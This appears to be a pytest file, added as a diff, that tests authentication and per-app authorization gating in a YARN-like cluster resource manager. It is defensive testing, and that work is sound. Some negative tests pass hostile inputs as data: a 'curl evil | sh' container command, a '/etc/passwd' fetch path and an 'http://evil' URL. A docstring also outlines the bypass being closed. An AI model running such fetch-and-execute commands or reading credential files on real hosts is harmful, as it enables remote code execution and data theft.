@@ -1,0 +1,384 @@
+"""Secured-cluster control plane: cluster-secret-gated submission, the
+mixed-auth RM channel, and wire-free per-app secret derivation.
+
+Reference analogs: YARN's Kerberos-gated ``submitApplication`` and
+RM-minted delegation tokens (TonyClient.getTokens:568-621). The rebuild's
+trust boundary is the operator cluster secret: privileged RM ops demand
+a channel HMAC-signed with it (rpc/codec.py signed mode) and per-app
+ClientToAM secrets are derived on both ends (security.derive_app_secret)
+so neither secret ever crosses the wire.
+"""
+
+import os
+
+import pytest
+
+from tony_trn.cluster.resources import Resource
+from tony_trn.cluster.rm import ResourceManager
+from tony_trn.rpc import RpcClient
+from tony_trn.rpc.client import RpcError, RpcRemoteError
+from tony_trn.security import derive_app_secret, mint_secret
+
+CLUSTER_SECRET = "deadbeef" * 4
+
+
+@pytest.fixture
+def secured_rm(tmp_path):
+    rm = ResourceManager(
+        work_root=str(tmp_path), cluster_secret=CLUSTER_SECRET
+    )
+    rm.add_node(Resource(memory_mb=4096, vcores=4))
+    rm.start()
+    yield rm
+    rm.stop()
+
+
+def _submit_args(**over):
+    args = dict(
+        name="t",
+        am_command="sleep 60",
+        am_env={},
+        am_resource={"memory_mb": 1024, "vcores": 1},
+        secret_nonce="aa" * 16,
+    )
+    args.update(over)
+    return args
+
+
+def _cluster_client(rm) -> RpcClient:
+    return RpcClient("127.0.0.1", rm.port, token=CLUSTER_SECRET,
+                     kid="cluster", retries=0)
+
+
+class TestPrivilegedOps:
+    def test_unauthenticated_submit_rejected(self, secured_rm):
+        """The headline gate: anyone reaching the RM port can no longer
+        run commands on cluster hosts."""
+        plain = RpcClient("127.0.0.1", secured_rm.port, retries=0)
+        with pytest.raises(RpcRemoteError) as e:
+            plain.submit_application(**_submit_args())
+        assert e.value.etype == "AuthError"
+        # nothing was created
+        assert secured_rm.cluster_status()["applications"] == []
+        plain.close()
+
+    def test_wrong_secret_drops_connection(self, secured_rm):
+        bad = RpcClient("127.0.0.1", secured_rm.port,
+                        token=mint_secret(), kid="cluster", retries=0)
+        # a bad MAC gets no protocol-level feedback: connection drop
+        with pytest.raises(RpcError):
+            bad.submit_application(**_submit_args())
+        bad.close()
+
+    def test_unknown_kid_drops_connection(self, secured_rm):
+        bad = RpcClient("127.0.0.1", secured_rm.port,
+                        token=CLUSTER_SECRET, kid="nope", retries=0)
+        with pytest.raises(RpcError):
+            bad.submit_application(**_submit_args())
+        bad.close()
+
+    def test_authenticated_submit_and_kill(self, secured_rm):
+        client = _cluster_client(secured_rm)
+        app_id = client.submit_application(**_submit_args())
+        assert app_id.startswith("application_")
+        # unauthenticated kill of someone else's app: refused
+        plain = RpcClient("127.0.0.1", secured_rm.port, retries=0)
+        with pytest.raises(RpcRemoteError) as e:
+            plain.kill_application(app_id=app_id)
+        assert e.value.etype == "AuthError"
+        client.kill_application(app_id=app_id)
+        report = client.get_application_report(app_id=app_id)
+        assert report["state"] == "KILLED"
+        plain.close()
+        client.close()
+
+    def test_register_node_gated(self, secured_rm):
+        plain = RpcClient("127.0.0.1", secured_rm.port, retries=0)
+        with pytest.raises(RpcRemoteError) as e:
+            plain.register_node(hostname="evil",
+                                capacity={"memory_mb": 1, "vcores": 1})
+        assert e.value.etype == "AuthError"
+        signed = _cluster_client(secured_rm)
+        node_id = signed.register_node(
+            hostname="h1", capacity={"memory_mb": 1024, "vcores": 1}
+        )
+        assert node_id.startswith("agent-h1-")
+        plain.close()
+        signed.close()
+
+    def test_unprivileged_ops_still_plain(self, secured_rm):
+        """AMs/monitors without the cluster credential keep working."""
+        signed = _cluster_client(secured_rm)
+        app_id = signed.submit_application(**_submit_args())
+        plain = RpcClient("127.0.0.1", secured_rm.port, retries=0)
+        report = plain.get_application_report(app_id=app_id)
+        assert report["app_id"] == app_id
+        assert plain.cluster_status()["applications"]
+        signed.kill_application(app_id=app_id)
+        plain.close()
+        signed.close()
+
+
+class TestAmPathGating:
+    """The review-found bypass: without per-app gating, an attacker on
+    a secured RM could drive allocate + start_container of a LIVE app
+    into running commands on cluster hosts, or poll node_heartbeat to
+    steal launch commands (with fetch tokens). All closed."""
+
+    def _live_app(self, secured_rm):
+        client = _cluster_client(secured_rm)
+        nonce = os.urandom(16).hex()
+        app_id = client.submit_application(**_submit_args(secret_nonce=nonce))
+        client.close()
+        return app_id, derive_app_secret(CLUSTER_SECRET, nonce)
+
+    def test_unauthenticated_allocate_and_start_rejected(self, secured_rm):
+        app_id, _ = self._live_app(secured_rm)
+        plain = RpcClient("127.0.0.1", secured_rm.port, retries=0)
+        for call in (
+            lambda: plain.allocate(app_id=app_id, asks=[
+                {"allocation_request_id": 1,
+                 "resource": {"memory_mb": 256, "vcores": 1}}]),
+            lambda: plain.start_container(
+                app_id=app_id, container_id="container_x",
+                command="curl evil | sh", env={}),
+            lambda: plain.stop_container(
+                app_id=app_id, container_id="container_x"),
+            lambda: plain.register_application_master(
+                app_id=app_id, host="evil", rpc_port=1),
+            lambda: plain.unregister_application_master(
+                app_id=app_id, final_status="SUCCEEDED"),
+            lambda: plain.update_tracking_url(
+                app_id=app_id, tracking_url="http://evil"),
+        ):
+            with pytest.raises(RpcRemoteError) as e:
+                call()
+            assert e.value.etype == "PermissionError"
+        plain.close()
+
+    def test_caller_kid_cannot_be_spoofed_in_args(self, secured_rm):
+        """caller_kid is server-verified: supplying it as a plain-frame
+        argument must not bypass the gate."""
+        app_id, _ = self._live_app(secured_rm)
+        plain = RpcClient("127.0.0.1", secured_rm.port, retries=0)
+        with pytest.raises(RpcRemoteError) as e:
+            plain.call("allocate", app_id=app_id,
+                       caller_kid=f"app:{app_id}")
+        assert e.value.etype == "PermissionError"
+        plain.close()
+
+    def test_am_signed_with_app_kid_passes(self, secured_rm):
+        app_id, app_secret = self._live_app(secured_rm)
+        am = RpcClient("127.0.0.1", secured_rm.port, token=app_secret,
+                       kid=f"app:{app_id}", retries=0)
+        out = am.register_application_master(
+            app_id=app_id, host="127.0.0.1", rpc_port=12345)
+        assert out["cluster_nodes"] == 1
+        assert am.allocate(app_id=app_id)["allocated"] == []
+        am.close()
+
+    def test_app_kid_cannot_drive_another_app(self, secured_rm):
+        a, secret_a = self._live_app(secured_rm)
+        b, _ = self._live_app(secured_rm)
+        am_a = RpcClient("127.0.0.1", secured_rm.port, token=secret_a,
+                         kid=f"app:{a}", retries=0)
+        with pytest.raises(RpcRemoteError) as e:
+            am_a.allocate(app_id=b)
+        assert e.value.etype == "PermissionError"
+        am_a.close()
+
+    def test_node_heartbeat_and_fetch_privileged(self, secured_rm):
+        plain = RpcClient("127.0.0.1", secured_rm.port, retries=0)
+        for call in (
+            lambda: plain.node_heartbeat(node_id="node0"),
+            lambda: plain.fetch_resource(path="/etc/passwd",
+                                         node_id="node0"),
+        ):
+            with pytest.raises(RpcRemoteError) as e:
+                call()
+            assert e.value.etype == "AuthError"
+        plain.close()
+
+
+class TestClusterSecretLoading:
+    def test_configured_but_missing_file_is_an_error(self, tmp_path):
+        from tony_trn.security import load_cluster_secret
+
+        with pytest.raises(RuntimeError, match="unreadable"):
+            load_cluster_secret(
+                env={"TONY_CLUSTER_SECRET_FILE": str(tmp_path / "nope")}
+            )
+        empty = tmp_path / "empty"
+        empty.write_text("")
+        with pytest.raises(RuntimeError, match="empty"):
+            load_cluster_secret(
+                env={"TONY_CLUSTER_SECRET_FILE": str(empty)}
+            )
+        assert load_cluster_secret(env={}) is None
+
+
+class TestSecretDerivation:
+    def test_app_secret_never_crosses_wire(self, secured_rm):
+        client = _cluster_client(secured_rm)
+        nonce = os.urandom(16).hex()
+        app_id = client.submit_application(**_submit_args(secret_nonce=nonce))
+        expected = derive_app_secret(CLUSTER_SECRET, nonce)
+        assert secured_rm._apps[app_id].secret == expected
+        client.kill_application(app_id=app_id)
+        client.close()
+
+    def test_plaintext_secret_refused_on_secured_cluster(self, secured_rm):
+        client = _cluster_client(secured_rm)
+        with pytest.raises(RpcRemoteError) as e:
+            client.submit_application(
+                **_submit_args(secret="plaintext", secret_nonce="")
+            )
+        assert "secret_nonce" in str(e.value)
+        with pytest.raises(RpcRemoteError):
+            client.submit_application(
+                **_submit_args(secret_nonce="",
+                               am_env={"TONY_SECRET": "plaintext"})
+            )
+        client.close()
+
+    def test_missing_nonce_refused(self, secured_rm):
+        client = _cluster_client(secured_rm)
+        with pytest.raises(RpcRemoteError):
+            client.submit_application(**_submit_args(secret_nonce=""))
+        client.close()
+
+
+class TestAppKidDataReads:
+    def test_worker_reads_sign_with_app_kid(self, secured_rm, tmp_path):
+        """tony:// range reads prove app membership by channel signature
+        (kid ``app:<id>``) — no token in any frame."""
+        data = tmp_path / "ds" / "part0.bin"
+        data.parent.mkdir()
+        data.write_bytes(b"x" * 1024)
+        client = _cluster_client(secured_rm)
+        nonce = os.urandom(16).hex()
+        app_id = client.submit_application(**_submit_args(
+            secret_nonce=nonce, readable_roots=[str(tmp_path / "ds")],
+        ))
+        app_secret = derive_app_secret(CLUSTER_SECRET, nonce)
+        from tony_trn.io.remote import RemoteFs
+
+        fs = RemoteFs(f"127.0.0.1:{secured_rm.port}", node_id="node0",
+                      token=app_secret, app_id=app_id)
+        assert fs._client.channel_signed  # negotiated at construction
+        assert fs._frame_token() == ""    # secret kept off the wire
+        assert fs.size(str(data)) == 1024
+        assert fs.read_range(str(data), 10, 5) == b"xxxxx"
+        # wrong app secret: the channel MAC fails, reads are impossible
+        bad = RemoteFs(f"127.0.0.1:{secured_rm.port}", node_id="node0",
+                       token=mint_secret(), app_id=app_id)
+        with pytest.raises(RpcError):
+            bad.size(str(data))
+        client.kill_application(app_id=app_id)
+        client.close()
+
+
+class TestSecuredE2E:
+    def test_full_job_on_secured_cluster(self, tmp_path):
+        """A real gang job end to end with the cluster secret as the
+        only credential the client starts from: signed submit, derived
+        app secret, workers registering and exiting 0."""
+        from tony_trn.client import TonyClient
+        from tony_trn.cluster import MiniCluster
+
+        workloads = os.path.join(os.path.dirname(__file__), "workloads")
+        with MiniCluster(num_node_managers=2,
+                         work_dir=str(tmp_path / "mc"),
+                         secured=True) as mc:
+            argv = [
+                "--rm_address", mc.rm_address,
+                "--src_dir", workloads,
+                "--executes", "python exit_0_check_env.py",
+                "--container_env", "ENV_CHECK=ENV_CHECK",
+            ]
+            for kv in [
+                f"tony.cluster.secret-file={mc.cluster_secret_file}",
+                "tony.worker.instances=2",
+                "tony.ps.instances=0",
+                f"tony.staging.dir={tmp_path / 'staging'}",
+                f"tony.history.location={tmp_path / 'history'}",
+                "tony.client.poll-interval=100",
+                "tony.am.rm-heartbeat-interval=100",
+                "tony.am.monitor-interval=100",
+                "tony.task.registration-poll-interval=200",
+                "tony.task.heartbeat-interval=200",
+            ]:
+                argv += ["--conf", kv]
+            client = TonyClient()
+            client.init(argv)
+            try:
+                rc = client.run()
+                # the client derived (not transported) the app secret
+                assert client.app_id is not None
+                assert client.secret == derive_app_secret(
+                    mc.cluster_secret, client._secret_nonce
+                )
+            finally:
+                client.close()
+            assert rc == 0
+
+    def test_clientless_submit_fails_without_secret_conf(self, tmp_path):
+        """A client NOT configured with the secret file cannot submit."""
+        from tony_trn.client import TonyClient
+        from tony_trn.cluster import MiniCluster
+
+        workloads = os.path.join(os.path.dirname(__file__), "workloads")
+        with MiniCluster(num_node_managers=1,
+                         work_dir=str(tmp_path / "mc"),
+                         secured=True) as mc:
+            argv = [
+                "--rm_address", mc.rm_address,
+                "--src_dir", workloads,
+                "--executes", "python exit_0_check_env.py",
+                "--conf", f"tony.staging.dir={tmp_path / 'staging'}",
+                "--conf", "tony.application.num-client-rm-connect-retries=0",
+            ]
+            client = TonyClient()
+            client.init(argv)
+            try:
+                with pytest.raises(RpcRemoteError) as e:
+                    client.run()
+                assert e.value.etype == "AuthError"
+            finally:
+                client.close()
+
+
+class TestOpenClusterCompat:
+    def test_open_rm_still_accepts_plain_submit(self, tmp_path):
+        rm = ResourceManager(work_root=str(tmp_path))
+        rm.add_node(Resource(memory_mb=4096, vcores=4))
+        rm.start()
+        try:
+            plain = RpcClient("127.0.0.1", rm.port, retries=0)
+            app_id = plain.submit_application(
+                **_submit_args(secret_nonce="")
+            )
+            assert app_id.startswith("application_")
+            rm.kill_application(app_id)
+            plain.close()
+        finally:
+            rm.stop()
+
+    def test_downgrade_ok_client_talks_plain_to_open_rm(self, tmp_path):
+        rm = ResourceManager(work_root=str(tmp_path))
+        rm.start()
+        try:
+            c = RpcClient("127.0.0.1", rm.port, token="whatever",
+                          kid="app:x", downgrade_ok=True, retries=0)
+            c.connect()
+            assert not c.channel_signed
+            assert c.cluster_status() == {"nodes": [], "applications": []}
+            c.close()
+            # without downgrade_ok the mismatch is an explicit error
+            strict = RpcClient("127.0.0.1", rm.port, token="whatever",
+                               retries=0)
+            with pytest.raises(RpcError):
+                strict.cluster_status()
+            strict.close()
+        finally:
+            rm.stop()
